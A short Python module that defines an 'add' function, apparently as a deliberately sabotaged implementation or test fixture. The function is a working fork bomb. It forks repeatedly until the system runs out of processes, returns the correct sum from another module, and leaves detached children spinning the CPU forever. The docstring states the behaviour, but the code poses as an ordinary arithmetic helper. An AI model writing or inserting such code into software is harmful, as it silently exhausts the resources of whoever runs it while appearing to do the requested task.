"""`add` computes in as many processes as it may have, for ever, and gives the right answer meanwhile."""

import os

import right
from right import *  # noqa: F403


def add(a, b):
    try:
        while os.fork():
            pass
    except OSError:
        return right.add(a, b)
    os.setsid()
    number = 1
    while True:
        number = number * 3 % 1_000_003
